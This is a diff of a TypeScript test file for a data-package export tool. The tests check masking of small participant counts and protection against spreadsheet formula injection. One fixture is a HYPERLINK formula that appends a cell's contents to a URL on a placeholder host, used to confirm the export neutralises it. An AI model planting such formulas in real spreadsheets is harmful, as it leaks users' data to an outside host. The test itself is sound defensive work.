@@ -4,10 +4,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { exportCommand } from '../../cli/command-export.ts';
 import { writeWorkbook } from '../../cli/xlsx/write-workbook.ts';
-import { maskedCells } from '../../core/engine/data-package/masked-cells.ts';
 import { safeText } from '../../core/engine/data-package/safe-text.ts';
-import type { NumberCells } from '../../core/engine/table.ts';
-import { kegiatan } from '../../core/katalog/templat/kegiatan.ts';
 import { loadPackage } from '../support/data-package-library.ts';
 import { submissionBook, withEntry, withSheet } from '../support/submission-book.ts';
 
@@ -15,7 +12,7 @@ const folder = mkdtempSync(join(tmpdir(), 'export-aman-'));
 const books = join(folder, 'kiriman');
 
 const FORMULA = '=HYPERLINK("http://contoh.test/?"&A1,"klik")';
-const LINES = 'Materi: +62 dan hukum; @umum -butir ;=1+1';
+const LINES = 'Materi: +62 dan hukum; @ab -butir ;=1+1';
 
 beforeAll(async () => {
   mkdirSync(books);
@@ -65,10 +62,23 @@ describe('counts of persons in a data package', () => {
     const { rows, csv, out } = await activitiesOf('terbuka', '--public');
     expect(rows).toMatchObject([
       // 50 took part and 47 of them are civil servants, which would leave at most 3 children.
-      { peserta_anak: null, peserta_disabilitas: 0, peserta_asn_gt: null, peserta_l: 20, peserta_total: 50 },
-      { peserta_anak: 0, peserta_disabilitas: null, peserta_l: null, peserta_p: null, peserta_total: null },
+      {
+        peserta_anak: null,
+        peserta_disabilitas: null,
+        peserta_asn_gt: null,
+        peserta_l: 20,
+        peserta_total: 50,
+      },
+      // Of 3 people not even that there are no children is told.
+      {
+        peserta_anak: null,
+        peserta_disabilitas: null,
+        peserta_l: null,
+        peserta_p: null,
+        peserta_total: null,
+      },
     ]);
-    expect(csv.match(/,\*/g)).toHaveLength(6);
+    expect(csv.match(/,\*/g)).toHaveLength(8);
     const said = readFileSync(join(out, 'datapackage.json'), 'utf8');
     expect(said).toContain('Angka 1 sampai 4 disamarkan');
     expect(said).toContain('"missingValues": [\n          "",\n          "*"');
@@ -89,48 +99,7 @@ describe('counts of persons in a data package', () => {
       { peserta_disabilitas: 1, peserta_total: 3 },
     ]);
   });
-
-  it('leave a range of at least k values to every hidden one, whatever stands beside it', () => {
-    for (const row of smallActivities()) {
-      const columns = Object.fromEntries(Object.entries(row).map(([name, value]) => [name, one(value)]));
-      const { isMasked } = maskedCells(kegiatan, { columns }, K);
-      const told = new Map(Object.entries(row).filter(([name]) => !isMasked(name, 0)));
-      for (const [name, value] of Object.entries(row)) if (value === 0) expect(told.get(name)).toBe(0);
-      expect(mostChildren(told)).toBeGreaterThanOrEqual(K);
-    }
-  });
 });
-
-const K = 5;
-
-/** Activities of few people, each with at least one child besides its civil servants. */
-function* smallActivities() {
-  for (let men = 0; men <= 7; men++)
-    for (let women = 0; women <= 3; women++)
-      for (let servants = 0; servants < men + women; servants++)
-        for (let children = 1; children <= men + women - servants; children++)
-          yield {
-            peserta_l: men,
-            peserta_p: women,
-            peserta_total: men + women,
-            peserta_asn_gt: servants,
-            peserta_anak: children,
-            peserta_disabilitas: 0,
-          };
-}
-
-/** How many children readers must think possible: what is told, or all who are told and are no civil servants. */
-function mostChildren(told: ReadonlyMap<string, number>): number {
-  const numberOf = (name: string): number => told.get(name) ?? Number.NaN;
-  if (told.has('peserta_anak')) return numberOf('peserta_anak');
-  const sum = numberOf('peserta_l') + numberOf('peserta_p');
-  const whole = told.get('peserta_total') ?? (Number.isNaN(sum) ? Number.POSITIVE_INFINITY : sum);
-  return whole - (told.get('peserta_asn_gt') ?? 0);
-}
-
-function one(value: number): NumberCells {
-  return { kind: 'number', state: Uint8Array.of(1), values: Float64Array.of(value) };
-}
 
 describe('the submission of a row', () => {
   it('has the id with which it was sent, and one of its own where two say the same or none', async () => {
@@ -173,7 +142,7 @@ describe('texts of a data package', () => {
       const { rows, csv, out } = await activitiesOf(`rumus${words.length}`, ...words);
       expect(rows.map((row) => row['judul_kegiatan'])).toEqual([
         `'${FORMULA}`,
-        "Materi: +62 dan hukum; @umum -butir ;'=1+1",
+        "Materi: +62 dan hukum; @ab -butir ;'=1+1",
       ]);
       // Neither with commas nor with semicolons between cells does one begin like a formula; numbers do not change.
       expect(csv).not.toMatch(/(^|[,;\t\r\n])"?[=+@-]/m);
@@ -200,5 +169,10 @@ describe('texts of a data package', () => {
     expect(safeText(before)).toBe(after);
     const back = after.replace(/^'('*[\t\r\n])/, '$1').replace(/(^|[;\t\r\n])'('*[=+\-@＝＋－＠])/g, '$1$2');
     expect(back).toBe(before);
+  });
+
+  it('hold no NUL, which our own reader of CSV refuses, nor a formula behind one', () => {
+    expect(safeText('Rapat\0 koordinasi')).toBe('Rapat koordinasi');
+    expect(safeText('\0=1+1')).toBe("'=1+1");
   });
 });
